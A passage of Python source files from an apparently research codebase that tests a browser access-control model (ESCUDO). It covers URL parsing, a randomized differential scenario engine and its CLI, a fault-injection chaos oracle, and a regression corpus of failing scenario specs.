    reassemble exactly), ``+`` decodes to a space, and anything that is not
    a complete two-hex-digit escape -- a truncated ``%A`` at end-of-string,
    or ``%`` followed by non-hex characters -- passes through literally.
    The hex check is strict membership, not ``int()``, which would also
    accept whitespace and sign characters (``"% 1"`` must stay literal,
    not decode to byte 0x01).
    """
    out = bytearray()
    i = 0
    n = len(text)
    while i < n:
        ch = text[i]
        if ch == "+":
            out.append(0x20)
            i += 1
            continue
        if ch == "%" and i + 3 <= n and text[i + 1] in _HEX_DIGITS and text[i + 2] in _HEX_DIGITS:
            out.append(int(text[i + 1 : i + 3], 16))
            i += 3
            continue
        out.extend(ch.encode("utf-8"))
        i += 1
    return out.decode("utf-8", errors="replace")


def encode_query(params: dict[str, str]) -> str:
    """Encode a parameter dict into a query string."""
    return "&".join(f"{_quote(str(k))}={_quote(str(v))}" for k, v in params.items())


@dataclass(frozen=True)
class Url:
    """An absolute URL decomposed into its components."""

    scheme: str
    host: str
    port: int
    path: str = "/"
    query: str = ""
    fragment: str = ""

    def __post_init__(self) -> None:
        if not self.scheme or not self.host:
            raise ConfigurationError("URL requires a scheme and a host")
        object.__setattr__(self, "scheme", self.scheme.lower())
        object.__setattr__(self, "host", self.host.lower())
        if not self.path.startswith("/"):
            object.__setattr__(self, "path", "/" + self.path)

    # -- construction ---------------------------------------------------------

    @classmethod
    def parse(cls, text: "str | Url") -> "Url":
        """Parse an absolute URL string (memoised).

        An already-parsed :class:`Url` is returned as-is -- callers holding
        one never pay a stringify/re-parse round-trip.  String parses are
        served from a bounded LRU: the browser substrate parses the same
        handful of application URLs on every page load, XHR and cookie
        check, and ``Url`` is frozen, so sharing instances is safe.
        """
        if isinstance(text, Url):
            return text
        if not isinstance(text, str) or "://" not in text:
            raise ConfigurationError(f"not an absolute URL: {text!r}")
        return _parse_url_text(text)

    @classmethod
    def _parse_text(cls, text: str) -> "Url":
        """The uncached string parser (the LRU's fill path)."""
        scheme, _, rest = text.strip().partition("://")
        scheme = scheme.lower()
        fragment = ""
        if "#" in rest:
            rest, fragment = rest.split("#", 1)
        query = ""
        if "?" in rest:
            rest, query = rest.split("?", 1)
        authority, slash, path = rest.partition("/")
        path = slash + path if slash else "/"
        if "@" in authority:
            authority = authority.rsplit("@", 1)[1]
        host, _, port_text = authority.partition(":")
        if not host:
            raise ConfigurationError(f"URL {text!r} has no host")
        if port_text:
            try:
                port = int(port_text, 10)
            except ValueError as exc:
                raise ConfigurationError(f"URL {text!r} has a malformed port") from exc
        else:
            port = DEFAULT_PORTS.get(scheme, 80)
        return cls(scheme=scheme, host=host, port=port, path=path or "/", query=query, fragment=fragment)

    # -- properties -------------------------------------------------------------

    @property
    def origin(self) -> Origin:
        """The URL's web origin (scheme, host, port).

        Computed once per instance: origin comparisons run on every policy
        check, and memoised ``parse`` shares instances, so the cached value
        amortises across every consumer of the same URL.  (The cache slot is
        set via ``object.__setattr__`` because the dataclass is frozen; it
        is not a field, so equality and hashing are unaffected.)
        """
        origin = getattr(self, "_origin", None)
        if origin is None:
            origin = Origin(scheme=self.scheme, host=self.host, port=self.port)
            object.__setattr__(self, "_origin", origin)
        return origin

    @property
    def params(self) -> dict[str, str]:
        """Query parameters as a dict."""
        return _parse_query(self.query)

    @property
    def path_and_query(self) -> str:
        """Path plus query string (the request target sent to the server)."""
        if self.query:
            return f"{self.path}?{self.query}"
        return self.path

    # -- derivation --------------------------------------------------------------

    def with_params(self, params: dict[str, str]) -> "Url":
        """Copy of this URL with the query string replaced by ``params``."""
        return Url(
            scheme=self.scheme,
            host=self.host,
            port=self.port,
            path=self.path,
            query=encode_query(params),
            fragment=self.fragment,
        )

    def resolve(self, reference: str) -> "Url":
        """Resolve a (possibly relative) reference against this URL.

        Handles absolute URLs, scheme-relative (``//host/...``), absolute
        paths (``/x/y``), relative paths (``y``, ``../y``), bare query
        strings (``?a=1``) and bare fragments (``#top``).
        """
        ref = reference.strip()
        if not ref:
            return self
        if "://" in ref:
            return Url.parse(ref)
        if ref.startswith("//"):
            return Url.parse(f"{self.scheme}:{ref}")
        if ref.startswith("#"):
            return Url(self.scheme, self.host, self.port, self.path, self.query, ref[1:])
        if ref.startswith("?"):
            return Url(self.scheme, self.host, self.port, self.path, ref[1:], "")
        fragment = ""
        if "#" in ref:
            ref, fragment = ref.split("#", 1)
        query = ""
        if "?" in ref:
            ref, query = ref.split("?", 1)
        if ref.startswith("/"):
            path = _normalize_path(ref)
        else:
            base_dir = self.path.rsplit("/", 1)[0]
            path = _normalize_path(f"{base_dir}/{ref}")
        return Url(self.scheme, self.host, self.port, path, query, fragment)

    def __str__(self) -> str:
        default = DEFAULT_PORTS.get(self.scheme)
        host = self.host if default == self.port else f"{self.host}:{self.port}"
        text = f"{self.scheme}://{host}{self.path}"
        if self.query:
            text += f"?{self.query}"
        if self.fragment:
            text += f"#{self.fragment}"
        return text


@lru_cache(maxsize=4096)
def _parse_url_text(text: str) -> Url:
    """Memoised absolute-URL parse (module level so the cache is bounded once)."""
    return Url._parse_text(text)


def _normalize_path(path: str) -> str:
    """Collapse ``.`` and ``..`` segments in an absolute path."""
    segments: list[str] = []
    for segment in path.split("/"):
        if segment in ("", "."):
            continue
        if segment == "..":
            if segments:
                segments.pop()
            continue
        segments.append(segment)
    normalized = "/" + "/".join(segments)
    if path.endswith("/") and normalized != "/":
        normalized += "/"
    return normalized
