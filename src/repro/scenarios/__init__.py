"""Differential scenario engine.

Randomized multi-user, multi-tab browsing sessions -- with optional attack
injections from the :mod:`repro.attacks` corpus -- executed under a policy
matrix (``escudo`` / ``sop`` / ``none``) and checked by a differential
oracle: benign sessions must be state-transparent across models, attacks
must be blocked exactly under ESCUDO, and every denial must be attributable
to a mediation decision in the audit log.

Quickstart::

    from repro.scenarios import run_suite
    result = run_suite(seed=42, count=50)
    assert result.ok, result.summary()

Or from the command line::

    python -m repro.scenarios --seed 42 --count 100 --matrix escudo,sop,none
"""

from .engine import SuiteResult, run_suite
from .generator import ScenarioGenerator, attack_by_name, attack_corpus
from .model import (
    ACTIONS,
    MODEL_MATRIX,
    Actor,
    ModelSpec,
    Scenario,
    Step,
    make_step,
    resolve_models,
)
from .oracle import DifferentialOracle, Verdict
from .runner import DenialRecord, ScenarioRun, ScenarioRunner

__all__ = [
    "ACTIONS",
    "Actor",
    "DenialRecord",
    "DifferentialOracle",
    "MODEL_MATRIX",
    "ModelSpec",
    "Scenario",
    "ScenarioGenerator",
    "ScenarioRun",
    "ScenarioRunner",
    "Step",
    "SuiteResult",
    "Verdict",
    "attack_by_name",
    "attack_corpus",
    "make_step",
    "resolve_models",
    "run_suite",
]
