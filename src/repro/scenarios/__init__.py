"""Differential scenario engine.

Randomized multi-user, multi-tab browsing sessions -- with optional attack
injections from the :mod:`repro.attacks` corpus -- executed under a policy
matrix (``escudo`` / ``sop`` / ``none``) and checked by a differential
oracle: benign sessions must be state-transparent across models, attacks
must be blocked exactly under ESCUDO, and every denial must be attributable
to a mediation decision in the audit log.

Quickstart::

    from repro.scenarios import run_suite
    result = run_suite(seed=42, count=50)
    assert result.ok, result.summary()

Or sharded across worker processes (the merged report is byte-identical to
the serial run of the same seed range, and failing specs are pinned into the
regression corpus under ``tests/scenarios/corpus/``)::

    from repro.scenarios import run_suite_parallel
    result = run_suite_parallel(seed=42, count=200, workers=4)

Or from the command line::

    python -m repro.scenarios --seed 42 --count 200 --workers 4
"""

from .corpus import CorpusEntry, default_corpus_dir, load_corpus, save_entry, save_failure
from .engine import SuiteResult, run_suite
from .generator import ScenarioGenerator, attack_by_name, attack_corpus
from .model import (
    ACTIONS,
    MODEL_MATRIX,
    Actor,
    ModelSpec,
    Scenario,
    Step,
    canonical_spec_json,
    make_step,
    resolve_models,
)
from .oracle import DifferentialOracle, Verdict
from .parallel import (
    ParallelSuiteResult,
    default_steal_chunk,
    partition_indices,
    resolve_mp_context,
    run_suite_parallel,
    steal_chunks,
)
from .runner import DenialRecord, ScenarioRun, ScenarioRunner

__all__ = [
    "ACTIONS",
    "Actor",
    "CorpusEntry",
    "DenialRecord",
    "DifferentialOracle",
    "MODEL_MATRIX",
    "ModelSpec",
    "ParallelSuiteResult",
    "Scenario",
    "ScenarioGenerator",
    "ScenarioRun",
    "ScenarioRunner",
    "Step",
    "SuiteResult",
    "Verdict",
    "attack_by_name",
    "attack_corpus",
    "canonical_spec_json",
    "default_corpus_dir",
    "default_steal_chunk",
    "load_corpus",
    "make_step",
    "partition_indices",
    "resolve_models",
    "resolve_mp_context",
    "run_suite",
    "run_suite_parallel",
    "steal_chunks",
    "save_entry",
    "save_failure",
]
