"""CLI for the differential scenario engine.

Examples::

    # the acceptance run: 100 seeded scenarios across the full matrix
    python -m repro.scenarios --seed 42 --count 100 --matrix escudo,sop,none

    # the same range sharded over 4 worker processes (identical merged report)
    python -m repro.scenarios --seed 42 --count 200 --workers 4

    # replay one failing scenario by its token and dump its spec
    python -m repro.scenarios --replay 42:17 --spec

Failing specs are pinned as JSON entries into the regression corpus
(``tests/scenarios/corpus/`` by default; ``--corpus DIR`` overrides,
``--no-corpus`` disables) which the test suite auto-replays.

Exit status is non-zero when any scenario violates its invariant.  Every
*suite* run also writes the throughput artifact (``BENCH_scenarios.json``)
unless ``--bench-out ''`` disables it; ``--replay`` runs a single scenario
and writes no artifact.
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path

from .generator import ScenarioGenerator
from .oracle import DifferentialOracle
from .parallel import run_suite_parallel
from .runner import ScenarioRunner

DEFAULT_BENCH_OUT = "benchmarks/results/BENCH_scenarios.json"


def _parse_args(argv) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        prog="python -m repro.scenarios",
        description="Run randomized multi-user scenarios under a policy matrix "
        "and check the protected-vs-unprotected differential.",
    )
    parser.add_argument("--seed", default="42", help="suite seed (default: 42)")
    parser.add_argument("--count", type=int, default=100, help="number of scenarios (default: 100)")
    parser.add_argument(
        "--matrix",
        default="escudo,sop,none",
        help="comma-separated protection models (default: escudo,sop,none)",
    )
    parser.add_argument(
        "--attack-ratio",
        type=float,
        default=0.25,
        help="seeded probability a scenario embeds an attack (default: 0.25)",
    )
    parser.add_argument(
        "--workers",
        type=int,
        default=1,
        help="shard the run across N worker processes (default: 1; the merged "
        "report is byte-identical to the serial run of the same seed range)",
    )
    parser.add_argument(
        "--steal-chunk",
        type=int,
        default=0,
        metavar="N",
        help="scenario indices handed out per work-stealing queue pull "
        "(default: 0 = auto, roughly four pulls per worker)",
    )
    parser.add_argument(
        "--no-warm-ship",
        action="store_true",
        help="do not ship the parent's pre-warmed compile-cache snapshot to "
        "the workers; every worker then warms its own caches from scratch "
        "(the cold-start benchmark baseline)",
    )
    parser.add_argument(
        "--corpus",
        default="",
        metavar="DIR",
        help="where failing specs are pinned as regression entries "
        "(default: tests/scenarios/corpus, or $REPRO_CORPUS_DIR)",
    )
    parser.add_argument(
        "--no-corpus",
        action="store_true",
        help="do not pin failing specs into the regression corpus",
    )
    parser.add_argument(
        "--replay",
        default="",
        metavar="SEED:INDEX",
        help="re-run a single scenario from its replay token instead of a suite",
    )
    parser.add_argument("--spec", action="store_true", help="with --replay: print the scenario spec JSON")
    parser.add_argument(
        "--cold",
        action="store_true",
        help="disable the per-worker compile caches (templates, script ASTs, "
        "warm decision cache); every scenario then cold-starts, which is the "
        "benchmark baseline",
    )
    parser.add_argument(
        "--ast-walker",
        action="store_true",
        help="execute scripts with the reference AST-walking interpreter "
        "instead of the bytecode VM (differential parity runs: the report "
        "must be byte-identical either way)",
    )
    parser.add_argument(
        "--backend",
        choices=("dict", "sqlite"),
        default="dict",
        help="application storage backend (default: dict; sqlite runs the "
        "same matrix over the SQL persistence tier -- the report must be "
        "byte-identical either way)",
    )
    parser.add_argument(
        "--faults",
        type=float,
        default=0.0,
        metavar="RATE",
        help="arm the deterministic fault-injection plane at this per-site "
        "rate (network/storage/xhr; default: 0.0 = no plane)",
    )
    parser.add_argument(
        "--fault-seed",
        default="0",
        metavar="SEED",
        help="seed of the fault plane's deterministic schedule (default: 0)",
    )
    parser.add_argument(
        "--no-fault-retries",
        action="store_true",
        help="disable the resilience layer (retries/backoff); injected faults "
        "then surface as degraded runs instead of being healed",
    )
    parser.add_argument(
        "--crash-worker",
        action="append",
        default=[],
        metavar="W:N",
        help="crash worker W at its N-th stolen chunk (1-based; repeatable); "
        "the supervisor requeues the chunk and respawns a replacement -- the "
        "merged report stays byte-identical to the serial run",
    )
    parser.add_argument(
        "--bench-out",
        default=DEFAULT_BENCH_OUT,
        help="where suite runs write the throughput JSON "
        f"(default: {DEFAULT_BENCH_OUT}; '' disables; unused with --replay)",
    )
    parser.add_argument("--json", action="store_true", help="print the full report as JSON")
    return parser.parse_args(argv)


def _replay_one(args: argparse.Namespace) -> int:
    from .generator import parse_replay_token

    seed_text, _, _ = parse_replay_token(args.replay)
    generator = ScenarioGenerator(seed=seed_text, attack_ratio=args.attack_ratio)
    scenario = generator.replay(args.replay)
    # With --spec, stdout carries *only* the spec JSON (so it can be
    # redirected straight into a corpus pin); the verdict goes to stderr.
    report = (lambda *a, **kw: print(*a, file=sys.stderr, **kw)) if args.spec else print
    if args.spec:
        print(json.dumps(scenario.to_dict(), indent=2, sort_keys=True))
    runner = ScenarioRunner(
        models=args.matrix,
        compile_caches=not args.cold,
        script_engine="walker" if args.ast_walker else "vm",
        storage=args.backend,
    )
    runs = runner.run(scenario)
    verdict = DifferentialOracle().classify(scenario, runs)
    status = "ok" if verdict.ok else "FAIL"
    report(f"[{status}] {scenario.name} ({scenario.kind}): {verdict.reason}")
    for model, run in runs.items():
        report(
            f"  {model:>6}: digest {run.digest[:12]} | {run.mediations} mediations "
            f"({run.denied} denied) | {run.pages_loaded} pages"
        )
    return 0 if verdict.ok else 1


def main(argv=None) -> int:
    args = _parse_args(sys.argv[1:] if argv is None else argv)
    if args.replay:
        return _replay_one(args)

    faults = None
    if args.faults > 0.0 or args.crash_worker:
        from repro.faults.plan import FaultConfig

        seed_text = args.fault_seed
        faults = FaultConfig.uniform(
            seed=int(seed_text) if seed_text.lstrip("-").isdigit() else seed_text,
            rate=args.faults,
            retries=not args.no_fault_retries,
        )
    crash_schedule: dict[int, int] | None = None
    if args.crash_worker:
        crash_schedule = {}
        for spec in args.crash_worker:
            worker_text, _, ordinal_text = spec.partition(":")
            try:
                crash_schedule[int(worker_text)] = int(ordinal_text)
            except ValueError:
                print(f"bad --crash-worker spec {spec!r} (expected W:N)", file=sys.stderr)
                return 2

    # Suite runs always go through the sharded executor: with --workers 1 the
    # single shard runs in-process (no pool), so the serial and parallel code
    # paths -- and their merged reports -- are one and the same.
    result = run_suite_parallel(
        seed=args.seed,
        count=args.count,
        models=args.matrix,
        attack_ratio=args.attack_ratio,
        workers=args.workers,
        corpus_dir=args.corpus or None,
        persist_failures=not args.no_corpus,
        compile_caches=not args.cold,
        script_engine="walker" if args.ast_walker else "vm",
        storage=args.backend,
        steal_chunk=args.steal_chunk or None,
        warm_ship=not args.no_warm_ship,
        faults=faults,
        crash_schedule=crash_schedule,
    )
    if args.json:
        print(json.dumps(result.as_dict(), indent=2, sort_keys=True))
    else:
        print(result.summary())

    if args.bench_out:
        # One producer for the artifact: the bench layer's writer, so the CLI
        # and benchmarks/bench_scenarios.py emit an identical schema.
        from repro.bench.scenario_bench import write_scenario_report

        path = write_scenario_report(result, Path(args.bench_out))
        # With --json, stdout must stay a single parseable JSON document.
        print(
            f"[throughput report written to {path}]",
            file=sys.stderr if args.json else sys.stdout,
        )
    return 0 if result.ok else 1


if __name__ == "__main__":
    sys.exit(main())
