"""The chaos differential oracle: fault schedules against the security claims.

The fault-injection plane (:mod:`repro.faults`) can drop requests, break
storage writes, lose XHR completions and crash executor workers.  This
module checks that none of it ever weakens the reference monitor.  Three
properties, each checked over a matrix of deterministic fault schedules:

* **fail-closed** -- no attack scenario ever *succeeds* under escudo,
  whatever the fault schedule and whether or not the resilience layer is
  armed.  Faults may only remove capability (a dropped request, a lost
  completion); every delivery that does happen is still mediated, so a
  blocked attack can never become an open one.
* **benign convergence** -- with retries armed, every benign scenario ends
  in the exact application state digest of its fault-free baseline: the
  resilience layer (network re-dispatch, storage write retry, XHR backoff)
  heals transient faults completely at the checked rates.
* **passivity** -- an *armed but empty* fault plan perturbs nothing: the
  suite parity report is byte-identical to a run with no plane installed,
  serially and across the worker pool, on both storage backends.

:func:`run_chaos_matrix` and :func:`check_passivity` are the library
entry points; ``python -m repro.faults`` drives both and writes the
``BENCH_faults.json`` artifact.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

from repro.faults.plan import FaultConfig, merge_fault_stats

from .engine import run_suite
from .generator import ScenarioGenerator
from .parallel import run_suite_parallel
from .runner import ScenarioRunner


@dataclass
class ChaosReport:
    """Aggregated outcome of one fault-schedule matrix."""

    seed: int | str
    count: int
    schedules: int
    rate: float
    storage: str
    #: Scenario runs executed under an armed fault plan.
    runs_faulted: int = 0
    #: Fail-open events: an attack that *succeeded* under escudo with a
    #: fault schedule armed.  Must stay empty -- each entry names the
    #: scenario, schedule and retry mode that broke the claim.
    fail_open: list[dict] = field(default_factory=list)
    #: Convergence violations: benign scenarios that, with retries armed,
    #: did not reach their fault-free state digest (or crashed).
    diverged: list[dict] = field(default_factory=list)
    #: Benign runs that degraded *with retries disabled* -- expected and
    #: allowed (that is what the resilience layer exists to prevent).
    degraded: int = 0
    #: Runs that raised with retries disabled (an unhealed fault surfacing
    #: as a hard error); counted, never fail-open.
    crashes: int = 0
    #: Aggregated fault-plane telemetry over the whole matrix.
    faults: dict = field(default_factory=dict)

    @property
    def ok(self) -> bool:
        """True when fail-closed and convergence both held everywhere."""
        return not self.fail_open and not self.diverged

    @property
    def total_schedule_runs(self) -> int:
        """Distinct (scenario, schedule, retry-mode) fault runs checked."""
        return self.runs_faulted

    def as_dict(self) -> dict:
        return {
            "seed": self.seed,
            "count": self.count,
            "schedules": self.schedules,
            "rate": self.rate,
            "storage": self.storage,
            "ok": self.ok,
            "runs_faulted": self.runs_faulted,
            "fail_open": self.fail_open,
            "diverged": self.diverged,
            "degraded": self.degraded,
            "crashes": self.crashes,
            "faults": self.faults,
        }


def run_chaos_matrix(
    *,
    seed: int | str = 42,
    count: int = 25,
    schedules: int = 4,
    rate: float = 0.15,
    storage: str = "dict",
    attack_ratio: float = 0.5,
) -> ChaosReport:
    """Run every scenario under ``schedules`` × {retries on, off} fault plans.

    Scenarios run under escudo only -- the claim under test is the
    *protected* column's behaviour under faults; the policy-differential
    itself is the ordinary suite's job.  Each scenario's fault-free escudo
    run provides the baseline digest that the retries-armed runs must
    converge to.  The default parameters give ``25 × 4 × 2 = 200`` distinct
    fault-schedule runs.
    """
    generator = ScenarioGenerator(seed=seed, attack_ratio=attack_ratio)
    report = ChaosReport(
        seed=seed, count=count, schedules=schedules, rate=rate, storage=storage
    )

    baseline_runner = ScenarioRunner(models=("escudo",), storage=storage)
    scenarios = [generator.scenario(index) for index in range(count)]
    baselines = {
        scenario.name: baseline_runner.run_under(scenario, "escudo")
        for scenario in scenarios
    }
    for scenario in scenarios:
        base = baselines[scenario.name]
        if base.attack_result is not None and base.attack_result.succeeded:
            # The monitor must already block this attack fault-free;
            # chaos results would be meaningless on a broken baseline.
            raise RuntimeError(
                f"fault-free escudo baseline fails closed-world check: "
                f"attack {scenario.name!r} succeeded without any faults"
            )

    for schedule in range(schedules):
        for retries in (False, True):
            config = FaultConfig.uniform(
                seed=f"{seed}:{schedule}", rate=rate, retries=retries
            )
            runner = ScenarioRunner(models=("escudo",), storage=storage, faults=config)
            for scenario in scenarios:
                report.runs_faulted += 1
                where = {
                    "scenario": scenario.name,
                    "schedule": schedule,
                    "retries": retries,
                }
                try:
                    run = runner.run_under(scenario, "escudo")
                except Exception as error:  # noqa: BLE001 - any unhealed fault
                    # A run the faults broke outright: with retries off this
                    # is expected degradation; with retries on, a benign
                    # scenario failing to complete is a convergence bug.  An
                    # attack that never ran cannot have succeeded.
                    report.crashes += 1
                    if retries and scenario.kind == "benign":
                        report.diverged.append(
                            dict(where, reason=f"run crashed: {error}")
                        )
                    continue
                merge_fault_stats(report.faults, run.faults)
                if run.attack_result is not None and run.attack_result.succeeded:
                    report.fail_open.append(
                        dict(where, reason=run.attack_result.detail)
                    )
                if scenario.kind != "benign":
                    continue
                baseline = baselines[scenario.name]
                if run.digest == baseline.digest:
                    continue
                if retries:
                    report.diverged.append(
                        dict(
                            where,
                            reason=(
                                f"digest {run.digest[:12]} != fault-free "
                                f"baseline {baseline.digest[:12]}"
                            ),
                        )
                    )
                else:
                    report.degraded += 1
    return report


def check_passivity(
    *,
    seed: int | str = 11,
    count: int = 12,
    workers: int = 4,
    storages=("dict", "sqlite"),
) -> dict:
    """Armed-but-empty fault plan ≡ no plane at all, byte for byte.

    Compares the canonical suite parity report between a run with no fault
    plane installed and one with :meth:`FaultConfig.empty` armed (every
    site present, every rate zero) -- serially and over a ``workers``-wide
    pool, on every backend in ``storages``.  Any byte of divergence means
    the plane is not passive and fails the check.
    """
    checks: list[dict] = []
    for storage in storages:
        absent = run_suite(seed=seed, count=count, storage=storage)
        armed = run_suite(
            seed=seed, count=count, storage=storage, faults=FaultConfig.empty()
        )
        checks.append(
            {
                "mode": "serial",
                "storage": storage,
                "identical": json.dumps(absent.parity_dict(), sort_keys=True)
                == json.dumps(armed.parity_dict(), sort_keys=True),
            }
        )
        absent_pool = run_suite_parallel(
            seed=seed, count=count, storage=storage, workers=workers,
            persist_failures=False,
        )
        armed_pool = run_suite_parallel(
            seed=seed, count=count, storage=storage, workers=workers,
            persist_failures=False, faults=FaultConfig.empty(),
        )
        checks.append(
            {
                "mode": f"parallel-{workers}",
                "storage": storage,
                "identical": json.dumps(absent_pool.parity_dict(), sort_keys=True)
                == json.dumps(armed_pool.parity_dict(), sort_keys=True),
            }
        )
    return {
        "ok": all(check["identical"] for check in checks),
        "seed": seed,
        "count": count,
        "workers": workers,
        "checks": checks,
    }
