"""The persisted regression corpus: failing scenario specs, pinned forever.

When a fuzzing run (serial or sharded) finds a scenario that violates its
differential invariant, the *full spec* -- not just the replay token -- is
written as a JSON entry under ``tests/scenarios/corpus/``.  Replay tokens
are only stable relative to the generator configuration (seed, attack
ratio, registered corpus); the serialised spec is stable forever, so the
test suite can auto-replay every historical failure on every run
(``tests/scenarios/test_corpus_replay.py``).

Each entry records the spec, the policy matrix it was observed under, the
oracle's reason, and ``expect_ok``:

* ``expect_ok: false`` -- an *open* failure: replaying must still reproduce
  the violation (if it silently stops reproducing, the entry is stale and
  the test flags it);
* ``expect_ok: true`` -- a *fixed* (or hand-pinned) scenario: replaying must
  satisfy the oracle, guarding against regressions.  Flipping the flag after
  a bug fix converts a failure pin into a permanent regression guard.

Entries are deduplicated by a digest over ``(spec, models)``, so re-running
the fuzzer over a known-bad range never litters the corpus with copies.
"""

from __future__ import annotations

import hashlib
import json
import os
from dataclasses import dataclass
from pathlib import Path

from .model import Scenario, canonical_spec_json
from .oracle import DifferentialOracle, Verdict

#: Environment override for the corpus location (tests, CI sandboxes).
CORPUS_ENV_VAR = "REPRO_CORPUS_DIR"

#: Bumped only on incompatible entry-format changes.
CORPUS_SCHEMA = 1


def default_corpus_dir() -> Path:
    """The corpus directory: ``$REPRO_CORPUS_DIR`` or the in-repo default."""
    override = os.environ.get(CORPUS_ENV_VAR)
    if override:
        return Path(override)
    # corpus.py -> scenarios -> repro -> src -> repository root
    return Path(__file__).resolve().parents[3] / "tests" / "scenarios" / "corpus"


@dataclass(frozen=True)
class CorpusEntry:
    """One pinned scenario spec plus the context needed to replay it."""

    #: The full ``Scenario.to_dict()`` payload (canonical, JSON-native).
    spec: dict
    #: Policy matrix the verdict was observed under.
    models: tuple[str, ...]
    #: The oracle's reason at pin time (documentation; not re-asserted).
    reason: str = ""
    #: Replay token at pin time (config-relative; documentation only).
    replay: str = ""
    #: Expected replay outcome -- see the module docstring.
    expect_ok: bool = False
    #: Fault-injection config (``FaultConfig.to_dict()``) the failure was
    #: observed under, or ``None`` for a fault-free run.  Replaying re-arms
    #: the exact same deterministic schedule.
    faults: dict | None = None
    schema: int = CORPUS_SCHEMA

    @property
    def name(self) -> str:
        """The pinned scenario's name."""
        return str(self.spec.get("name", "unnamed"))

    def digest(self) -> str:
        """Content digest over ``(spec, models[, faults])`` -- the dedupe key.

        The fault schedule joins the payload only when one is pinned, so
        every pre-fault-plane corpus file keeps its historical name.
        """
        body: dict = {"spec": self.spec, "models": list(self.models)}
        if self.faults is not None:
            body["faults"] = self.faults
        payload = canonical_spec_json(body)
        return hashlib.sha256(payload.encode("utf-8")).hexdigest()[:12]

    def filename(self) -> str:
        """Deterministic, human-scannable file name for this entry."""
        return f"{self.name}-{self.digest()}.json"

    def scenario(self) -> Scenario:
        """Materialise the pinned spec."""
        return Scenario.from_dict(self.spec)

    def replay_verdict(self) -> Verdict:
        """Re-run the pinned spec under its recorded matrix and classify it."""
        from .runner import ScenarioRunner

        scenario = self.scenario()
        runner = ScenarioRunner(models=self.models, faults=self.faults)
        return DifferentialOracle().classify(scenario, runner.run(scenario))

    def to_dict(self) -> dict:
        data = {
            "schema": self.schema,
            "spec": self.spec,
            "models": list(self.models),
            "reason": self.reason,
            "replay": self.replay,
            "expect_ok": self.expect_ok,
        }
        if self.faults is not None:
            data["faults"] = self.faults
        return data

    @classmethod
    def from_dict(cls, data: dict) -> "CorpusEntry":
        return cls(
            spec=data["spec"],
            models=tuple(data["models"]),
            reason=data.get("reason", ""),
            replay=data.get("replay", ""),
            expect_ok=bool(data.get("expect_ok", False)),
            faults=data.get("faults"),
            schema=int(data.get("schema", CORPUS_SCHEMA)),
        )


def save_entry(entry: CorpusEntry, directory: Path | str | None = None) -> Path:
    """Persist ``entry`` (idempotent: an existing identical pin is kept)."""
    target_dir = Path(directory) if directory is not None else default_corpus_dir()
    target_dir.mkdir(parents=True, exist_ok=True)
    path = target_dir / entry.filename()
    if not path.exists():
        path.write_text(
            json.dumps(entry.to_dict(), indent=2, sort_keys=True) + "\n", encoding="utf-8"
        )
    return path


def save_failure(
    spec: dict,
    *,
    models,
    reason: str = "",
    replay: str = "",
    faults: dict | None = None,
    directory: Path | str | None = None,
) -> Path:
    """Pin a failing spec discovered by a fuzzing run (``expect_ok=False``).

    ``faults`` pins the fault-injection config alongside the spec, so a
    failure found under an injected schedule auto-replays under it too.
    """
    entry = CorpusEntry(
        spec=spec,
        models=tuple(models),
        reason=reason,
        replay=replay,
        expect_ok=False,
        faults=faults,
    )
    return save_entry(entry, directory)


def load_corpus(directory: Path | str | None = None) -> list[tuple[Path, CorpusEntry]]:
    """Every corpus entry, sorted by file name (deterministic test order)."""
    target_dir = Path(directory) if directory is not None else default_corpus_dir()
    if not target_dir.is_dir():
        return []
    entries: list[tuple[Path, CorpusEntry]] = []
    for path in sorted(target_dir.glob("*.json")):
        entries.append((path, CorpusEntry.from_dict(json.loads(path.read_text(encoding="utf-8")))))
    return entries
