"""The scenario engine facade: generate → run matrix → classify → aggregate.

:func:`run_suite` is the one call behind the CLI (``python -m
repro.scenarios``), the fuzz tests and the throughput benchmark: it streams
``count`` seeded scenarios through the :class:`ScenarioRunner` under the
requested policy matrix, feeds every result to the
:class:`DifferentialOracle`, and aggregates wall-clock + mediation
statistics into a JSON-serialisable :class:`SuiteResult`.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

from repro.faults.plan import merge_fault_stats

from .generator import ScenarioGenerator
from .oracle import DifferentialOracle, Verdict
from .runner import ScenarioRunner


@dataclass
class SuiteResult:
    """Outcome and statistics of one scenario-suite run."""

    seed: int | str
    count: int
    models: tuple[str, ...]
    #: The generator's attack ratio -- part of a replay token's context.
    attack_ratio: float = 0.0
    verdicts: list[Verdict] = field(default_factory=list)
    #: The scenario indices actually executed, in execution order -- always
    #: parallel to ``verdicts``.  The sharded executor pairs verdicts with
    #: their global indices through this field (and fails loudly on a length
    #: mismatch) instead of silently zipping against the requested slice.
    indices: list[int] = field(default_factory=list)
    #: Full specs of failing scenarios (``{"index", "spec", "reason",
    #: "replay"}``) -- the regression corpus pins these.
    failure_specs: list[dict] = field(default_factory=list)
    duration_s: float = 0.0
    mediations: int = 0
    denied: int = 0
    cache_hits: int = 0
    cache_lookups: int = 0
    pages_loaded: int = 0
    #: Event-loop macrotasks executed across the whole suite.  Part of the
    #: parity report: shards must reproduce the exact task schedule.
    tasks_run: int = 0
    #: Aggregated fault-plane accounting (``{}`` without a plane or when no
    #: fault fired).  Reporting only: deliberately excluded from
    #: :meth:`parity_dict` so fault telemetry can never perturb the parity
    #: oracles.
    faults: dict = field(default_factory=dict)

    @property
    def failures(self) -> list[Verdict]:
        """Every verdict the oracle rejected."""
        return [v for v in self.verdicts if not v.ok]

    @property
    def ok(self) -> bool:
        """True when every scenario satisfied its invariant."""
        return not self.failures

    @property
    def benign_count(self) -> int:
        return sum(1 for v in self.verdicts if v.kind == "benign")

    @property
    def attack_count(self) -> int:
        return sum(1 for v in self.verdicts if v.kind == "attack")

    @property
    def scenarios_per_second(self) -> float:
        """End-to-end scenario throughput (each scenario runs the full matrix)."""
        return len(self.verdicts) / self.duration_s if self.duration_s > 0 else 0.0

    @property
    def mediations_per_second(self) -> float:
        """Reference-monitor throughput summed over every page of every run."""
        return self.mediations / self.duration_s if self.duration_s > 0 else 0.0

    @property
    def cache_hit_rate(self) -> float:
        """Decision-cache hit rate aggregated over the whole suite."""
        return self.cache_hits / self.cache_lookups if self.cache_lookups else 0.0

    def parity_dict(self) -> dict:
        """The timing-free canonical report.

        This is the merge oracle for sharded execution: a parallel run of a
        seed range must produce a ``parity_dict`` equal -- byte-identical
        once JSON-encoded -- to the serial run of the same range.  Wall-clock
